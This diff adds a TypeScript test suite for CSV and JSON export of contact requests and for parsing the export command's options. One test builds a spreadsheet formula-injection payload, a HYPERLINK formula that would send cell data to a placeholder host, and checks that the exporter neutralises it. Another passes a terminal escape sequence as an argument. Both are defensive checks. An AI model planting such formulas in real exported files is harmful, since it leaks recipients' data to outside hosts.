@@ -1,0 +1,190 @@
+import { describe, expect, test } from 'vitest';
+import type { StoredRequest } from '../store/store.ts';
+import { UsageError } from './commands.ts';
+import { exportCsv, exportJson, parseExportWords } from './export.ts';
+
+const stored: StoredRequest = {
+  reference: 'VR-7K3Q-9F2M',
+  dedupe_key: 'the key',
+  content_hash: 'a hash',
+  name: 'Ada Byron',
+  email: 'ada@example.com',
+  phone: '+44 20 7946 0018',
+  company: '',
+  service_interest: 'luxury-travel',
+  message: 'Two weeks in June.',
+  received_at: '2026-03-06T21:30:00.000Z',
+  answered_at: null,
+  reply_by: '2026-03-09T13:30:00.000Z',
+  message_hash: 'another hash',
+  doubts: null,
+  cleared_at: null,
+  collected_in: null,
+  taken_by: null,
+  taken_at: null,
+  answered_by: null,
+};
+
+const header = [
+  ...['reference', 'receivedAt', 'replyBy', 'takenBy', 'takenAt', 'answeredBy', 'answeredAt'],
+  ...['name', 'email', 'phone', 'company', 'serviceInterest', 'message', 'doubtful'],
+];
+
+async function* rowsOf(changes: readonly Partial<StoredRequest>[]) {
+  for (const change of changes) yield { ...stored, ...change };
+}
+
+const exported = async (
+  as: (rows: AsyncIterable<StoredRequest>) => AsyncIterable<string>,
+  changes: readonly Partial<StoredRequest>[],
+) => (await Array.fromAsync(as(rowsOf(changes)))).join('');
+
+/** Reads CSV as RFC 4180 has it: records of cells. Fails on what it does not allow. */
+function parsedCsv(text: string): string[][] {
+  const records: string[][] = [[]];
+  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
+  while (cell.lastIndex < text.length) {
+    const at = cell.lastIndex;
+    const [, quoted, plain = '', end] = cell.exec(text) ?? [];
+    if (end === undefined) throw new Error(`no cell at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
+    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
+    if (end !== ',') records.push([]);
+  }
+  return records.slice(0, -1);
+}
+
+/** The cells of CSV by their header, and by the header's first bytes whether spreadsheets read it as UTF-8. */
+async function csvOf(changes: readonly Partial<StoredRequest>[]): Promise<Record<string, string>[]> {
+  const text = await exported(exportCsv, changes);
+  expect(Buffer.from(text).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+  const [names = [], ...records] = parsedCsv(text.slice(1));
+  expect(names).toEqual(header);
+  for (const record of records) expect(record).toHaveLength(header.length);
+  return records.map((record) => Object.fromEntries(names.map((name, i) => [name, record[i] ?? ''])));
+}
+
+const jsonOf = async (changes: readonly Partial<StoredRequest>[]) =>
+  JSON.parse(await exported(exportJson, changes));
+
+const answered: Partial<StoredRequest> = {
+  taken_by: 'MB',
+  taken_at: '2026-03-09T13:01:00.000Z',
+  answered_by: 'KL',
+  answered_at: '2026-03-09T13:12:00.000Z',
+};
+
+describe('CSV', () => {
+  test('has a header, and a line for each request, with the service by its label', async () => {
+    expect(await csvOf([])).toEqual([]);
+    expect(await csvOf([answered, { service_interest: '' }, { service_interest: 'yachts' }])).toMatchObject([
+      {
+        reference: 'VR-7K3Q-9F2M',
+        receivedAt: '2026-03-06T21:30:00.000Z',
+        replyBy: '2026-03-09T13:30:00.000Z',
+        takenBy: 'MB',
+        takenAt: '2026-03-09T13:01:00.000Z',
+        answeredBy: 'KL',
+        answeredAt: '2026-03-09T13:12:00.000Z',
+        name: 'Ada Byron',
+        serviceInterest: 'Luxury Travel Curation',
+        doubtful: '',
+      },
+      { takenBy: '', answeredAt: '', serviceInterest: '' },
+      { serviceInterest: 'yachts' },
+    ]);
+  });
+
+  test.each(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])(
+    'a cell that begins with %j is no formula in any column of the visitor’s',
+    async (first) => {
+      const text = `${first}HYPERLINK("https://x.example?"&A1,"x")`;
+      const [request] = await csvOf([
+        { name: text, email: text, phone: text, company: text, message: text, answered_by: text },
+      ]);
+      for (const column of ['name', 'email', 'phone', 'company', 'message', 'answeredBy'])
+        expect(request?.[column]).toBe(`'${text}`);
+    },
+  );
+
+  test.each([
+    'He said "yes", twice: ""',
+    'one\ntwo\r\nthree\rfour',
+    ',;,"\n"',
+    'a "=1+1" in the middle, -5',
+    'Hélène, נורה, 健一 🌙',
+    ' = after a space',
+  ])('%j comes back as it was', async (message) => {
+    expect(await csvOf([{ message }, {}])).toMatchObject([{ message }, { message: stored.message }]);
+  });
+
+  test('reasons for doubt are told until somebody clears them', async () => {
+    const doubts = '["links","quick"]';
+    expect(await csvOf([{ doubts }, { doubts, cleared_at: stored.received_at }])).toMatchObject([
+      { doubtful: 'links, quick' },
+      { doubtful: '' },
+    ]);
+  });
+});
+
+describe('JSON', () => {
+  test('is an array, of none, one or many', async () => {
+    for (const many of [0, 1, 3]) expect(await jsonOf(Array(many).fill({}))).toHaveLength(many);
+  });
+
+  test('has the columns of CSV, and nothing technical', async () => {
+    const [request] = await jsonOf([answered]);
+    expect(Object.keys(request)).toEqual(header);
+    expect(JSON.stringify(request)).not.toMatch(/hash|the key/);
+  });
+
+  test('values are as they were written, and what there is not is null', async () => {
+    const message = '=1+1\t"quoted"\r\n＝ \u2028';
+    expect(await jsonOf([{ message, doubts: '["links"]' }])).toMatchObject([
+      { phone: '+44 20 7946 0018', message, answeredAt: null, doubtful: ['links'] },
+    ]);
+  });
+});
+
+test.each([exportCsv, exportJson])('%o passes each request on before it asks for the next', async (as) => {
+  let asked = 0;
+  async function* rows() {
+    for (; asked < 3; asked += 1) yield stored;
+  }
+  const pieces = as(rows());
+  const written: string[] = [];
+  for await (const piece of pieces) {
+    written.push(piece);
+    if (piece.includes(stored.reference)) break;
+  }
+  expect(written.join('')).toContain(stored.reference);
+  expect(asked).toBe(0);
+});
+
+describe('the words after the command', () => {
+  test('without any, it is CSV of all requests', () => {
+    expect(parseExportWords([])).toEqual({ format: 'csv', since: undefined });
+  });
+
+  test.each([
+    ['--format json --since 2026-03-09', { format: 'json', since: new Date('2026-03-09T00:00:00Z') }],
+    ['--since=2028-02-29 --format=csv', { format: 'csv', since: new Date('2028-02-29T00:00:00Z') }],
+  ])('%s', (words, meant) => {
+    expect(parseExportWords(words.split(' '))).toEqual(meant);
+  });
+
+  test.each([
+    ['--format xlsx', /“xlsx” is no format/],
+    ['--format', /only --format csv/],
+    ['--since', /--since DATE/],
+    ['--since yesterday', /“yesterday” is no date/],
+    ['--since 2026-03-09T10:00', /is no date/],
+    ['--since 2026-02-30', /“2026-02-30” is no date/],
+    ['--since 03/09/2026', /is no date: give one such as/],
+    ['--until 2026-03-09', /takes only/],
+    ['json', /takes only/],
+    ['--format \u001b[2J', /“\\u\{1b\}\[2J” is no format/],
+  ])('%j is answered in a sentence', (words, sentence) => {
+    expect(() => parseExportWords(words.split(' '))).toThrow(UsageError);
+    expect(() => parseExportWords(words.split(' '))).toThrow(sentence);
+  });
+});
